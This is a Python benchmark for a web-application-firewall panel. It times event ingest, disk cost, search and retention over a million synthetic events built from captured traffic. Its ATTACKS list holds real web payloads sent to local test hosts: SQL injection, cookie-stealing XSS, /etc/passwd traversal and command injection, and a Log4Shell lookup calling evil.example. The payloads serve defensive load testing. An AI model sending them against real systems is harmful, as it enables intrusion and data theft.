"""How many events a second the ingest takes, what a million of them cost, and how long every search takes among them.

    make bench-ingest          (or: .venv/bin/python -m bench.ingest --events 1000000)

The lines are a real agent's and a real HAProxy's of real attacks, multiplied under request ids, visitors, paths and moments
of their own. What is timed is the ingest's loop, as the process has it, and the panel's search with the names of what is
found; both on files in the temporary directory.
"""

import argparse
import asyncio
import gc
import json
import random
import statistics
import tempfile
import time
from contextlib import closing
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from bench.event_searches import search
from guardpanel.ingest import retention
from guardpanel.ingest.run import GC_AFTER, Ingest
from guardpanel.settings import Settings
from tests.events import a_request_id_of
from tests.haproxies import haproxy_binary
from tests.live.origins import origin
from tests.live.stack import Stack, head
from tests.rows import rows

ROUND = 50_000
DAYS = 30
ORDINARY = 9
"Requests of which nothing is to say, to each event, in HAProxy's log."

ATTACKS = [
    "/list?id=1%27%20OR%20%271%27%3D%271",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/?f=../../../../etc/passwd",
    "/?x=%24%7Bjndi:ldap://evil.example/a%7D",
    "/?cmd=;cat%20/etc/passwd",
    "/wp-login.php?user=admin%27--",
    "/.git/config",
    "/?a=%00",
    "/product?id=1+UNION+SELECT+password+FROM+users",
    "/?page=php://filter/resource=index",
]

BROWSER = {
    "user-agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "accept-language": "en,de;q=0.7",
    "accept-encoding": "gzip, deflate", "cookie": "session=0123456789abcdef; theme=dark", "referer": "http://shop.example/",
}  # fmt: skip

Event = dict[str, Any]


def captured() -> list[tuple[Event, Event]]:
    """What the agent and HAProxy really write of these attacks, and of a form."""
    policies = {
        "Blocks": {"enforcement_mode": "block"},
        "Watches": {"enforcement_mode": "detect_only", "detection_paranoia_level": 2},
    }
    with origin() as server:
        common = {"servers": [{"address": server.address}], "health_check": False}
        hosts = {f"{name.lower()}.test": {**common, "policy": name} for name in policies}
        with Stack(haproxy_binary("2.8"), rows(policies, hosts), events=True) as stack:
            for host in hosts:
                for target in ATTACKS:
                    stack.send(head("GET", host, target, BROWSER))
                body = b"title=Our+new+player&content=%3Cscript+src%3D%22%2Fplayer.js%22%3E&password=geheim"
                sent = {
                    **BROWSER,
                    "content-type": "application/x-www-form-urlencoded",
                    "content-length": str(len(body)),
                }
                stack.send(head("POST", host, "/wp-json/wp/v2/posts", sent), body)
            time.sleep(0.5)
            events = [
                json.loads(line)
                for path in (stack.folder / "events").iterdir()
                for line in path.read_bytes().split(b"\n")[:-1]
            ]
            logged = {line["id"]: line for line in stack.access_log()}
            return [(event, logged[event["id"]]) for event in events]


@dataclass
class Crowd:
    """Whose requests they are."""

    chance: random.Random
    hosts: int = 50
    policies: int = 10

    def __post_init__(self) -> None:
        self.clients = [
            f"198.{self.chance.randrange(18, 20)}.{self.chance.randrange(256)}.{self.chance.randrange(256)}"
            for _ in range(20_000)
        ]
        begins = [self.chance.choice(["/shop", "/blog", "/api/v2", "/wp-content"]) for _ in range(30_000)]
        self.paths = [f"{begin}/{self.chance.getrandbits(40):010x}" for begin in begins]

    def some(self, pairs: list[tuple[Event, Event]], moment: datetime) -> tuple[bytes, bytes]:
        event, logged = self.chance.choice(pairs)
        request = a_request_id_of(moment, self.chance.getrandbits(74))
        client = self.clients[int(len(self.clients) * self.chance.random() ** 3)]
        uri = event["uri"]
        if self.chance.random() < 0.5:
            uri = self.paths[int(len(self.paths) * self.chance.random() ** 2)] + "?" + uri.partition("?")[2]
        host = 1 + int(self.hosts * self.chance.random() ** 2)
        own = {"id": request, "client": client, "uri": uri}
        event = {**event, **own, "time": moment.isoformat(timespec="microseconds").replace("+00:00", "Z")}
        logged = {
            **logged, "id": request, "client": client, "path": uri, "time": round(moment.timestamp(), 3),
            "virtual_host": str(host), "policy": str(1 + host % self.policies),
        }  # fmt: skip
        return as_line(event), as_line(logged)


def as_line(event: Event) -> bytes:
    return json.dumps(event, separators=(",", ":"), ensure_ascii=False).encode("utf-8", "surrogateescape") + b"\n"


def fill(settings: Settings, pairs: list[tuple[Event, Event]], events: int) -> None:
    """Round by round: lines are written, then read while the clock runs."""
    crowd, began = Crowd(random.Random(7)), datetime.now(UTC) - timedelta(days=DAYS)
    passed = as_line(
        {
            **pairs[0][1],
            "verdict": "-",
            "rules": "-",
            "action": "-",
            "rule": "-",
            "score": "0",
            "status": 200,
            "ended": "----",
            "server": "s1",
            "server_milliseconds": 1,
        }
    )
    for folder in (settings.events_dir, settings.log_dir):
        folder.mkdir(parents=True)
    with closing(Ingest(settings)) as ingest:
        for number in range(events // ROUND):
            together, segment = number % 4 != 0, settings.events_dir / f"{number + 1:020d}.jsonl"
            with segment.open("wb") as agent, settings.access_log.open("ab") as proxy:
                for at in range(ROUND):
                    moment = began + timedelta(days=DAYS) * ((number * ROUND + at) / events)
                    line, logged = crowd.some(pairs, moment)
                    agent.write(line)
                    proxy.write((logged + passed * ORDINARY) if together else b"")
            took, cpu = timed(ingest)
            report((number + 1) * ROUND, took, cpu, segment.stat().st_size, together=together)
            segment.unlink()
            settings.access_log.unlink()
        used = retention.size(ingest.connection)
        print(f"{used / 2**20:,.0f} MiB on disk: {used / events:,.0f} bytes an event")


def report(events: int, took: float, cpu: float, size: int, *, together: bool) -> None:
    what = f"with HAProxy's words, beside {ORDINARY} ordinary requests each" if together else "of the agent alone"
    figures = f"{ROUND / took:7,.0f} /s, {cpu / ROUND * 1e6:4.0f} µs of CPU each, lines of {size / ROUND:,.0f} bytes"
    print(f"{events:>9,} events: {figures}, {what}", flush=True)


def timed(ingest: Ingest) -> tuple[float, float]:
    began, cpu = time.perf_counter(), time.process_time()
    while ingest.step():
        pass
    return time.perf_counter() - began, time.process_time() - cpu


def tidy(settings: Settings) -> None:
    """Steps of removing what is too old, at the full size."""
    took = []
    with closing(Ingest(settings)) as ingest:
        for _ in range(20):
            began = time.perf_counter()
            with ingest.connection:
                ingest.connection.execute("BEGIN IMMEDIATE")
                removed = retention.remove_oldest(ingest.connection, days=0, mib=10**6)
            ingest.store.forget()
            took.append((time.perf_counter() - began) * 1000)
            assert removed
    print(f"\nRemoving {retention.STEP:,} events: {statistics.median(took):.0f} ms, at most {max(took):.0f} ms")


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--times", type=int, default=20)
    parser.add_argument("--keep", type=Path, help="a directory that is filled, or searched where it is full already")
    arguments = parser.parse_args()
    gc.set_threshold(*GC_AFTER)
    with tempfile.TemporaryDirectory(prefix="gp") as folder:
        settings = Settings(data_dir=arguments.keep or Path(folder) / "d", event_mib=1_048_576)
        if not settings.events_database.exists():
            fill(settings, captured(), arguments.events)
        asyncio.run(search(settings, arguments.times))
        tidy(settings)


if __name__ == "__main__":
    main()
